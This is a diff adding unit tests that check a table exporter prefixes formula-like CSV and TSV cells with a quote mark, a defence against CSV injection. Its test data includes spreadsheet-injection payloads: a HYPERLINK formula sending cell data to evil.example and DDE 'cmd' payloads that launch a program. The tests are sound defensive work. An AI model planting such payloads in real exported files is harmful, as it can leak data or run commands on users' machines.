@@ -89,6 +89,53 @@ describe('tableToTsv', () => {
   });
 });
 
+describe('formula cells (CSV injection)', () => {
+  // OWASP's advice: a text cell a spreadsheet would read as a formula starts with `'`.
+  const attacks: [string, string][] = [
+    ['=', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
+    ['+', "+1+cmd|' /C calc'!A0"],
+    ['-', "-2+3+cmd|' /C calc'!A0"],
+    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['a tab', '\t=1+1'],
+    ['a carriage return', '\r=1+1'],
+  ];
+
+  for (const [name, text] of attacks) {
+    it(`puts ' before a text cell starting with ${name}, in CSV and in Copy`, () => {
+      const table = { columns: ['Note'], rows: [{ Note: text }] };
+      const csv = tableToCsv(table);
+      const tsv = tableToTsv(table);
+      const csvCell = csv.slice(BOM.length).split('\r\n')[1];
+      const tsvCell = tsv.split('\n')[1];
+      // Quoted or not, the cell's text begins with the quote mark.
+      expect(csvCell.replace(/^"/, '')).toMatch(/^'/);
+      expect(csvCell.replace(/^"/, '').replace(/"$/, '').replace(/""/g, '"')).toBe(`'${text}`);
+      expect(tsvCell).toBe(`'${text}`.replace(/[\t\r\n]/g, ' '));
+    });
+  }
+
+  it('neutralises a column name too', () => {
+    const table = { columns: ['=1+1', 'ok'], rows: [] };
+    expect(tableToCsv(table)).toBe(`${BOM}'=1+1,ok\r\n`);
+    expect(tableToTsv(table)).toBe("'=1+1\tok");
+  });
+
+  it('leaves numbers alone, negative ones included', () => {
+    const table = { columns: ['n'], rows: [{ n: -5 }, { n: -0.25 }, { n: -1e21 }] };
+    expect(tableToCsv(table)).toBe(`${BOM}n\r\n-5\r\n-0.25\r\n-1e+21\r\n`);
+    expect(tableToTsv(table)).toBe('n\n-5\n-0.25\n-1e+21');
+  });
+
+  it('leaves dates, booleans and text starting otherwise alone', () => {
+    const table = {
+      columns: ['d', 'b', 't', 'm'],
+      rows: [{ d: '+275760-09-13T00:00:00.000Z', b: false, t: 'a=b', m: '−5' }],
+    };
+    expect(tableToCsv(table)).toBe(`${BOM}d,b,t,m\r\n+275760-09-13,false,a=b,−5\r\n`);
+    expect(tableToTsv(table)).toBe('d\tb\tt\tm\n+275760-09-13\tfalse\ta=b\t−5');
+  });
+});
+
 describe('csvFileName', () => {
   it('joins the calculator’s and the output’s names in safe characters', () => {
     expect(csvFileName('Loan calculator', 'Schedule / by month')).toBe(
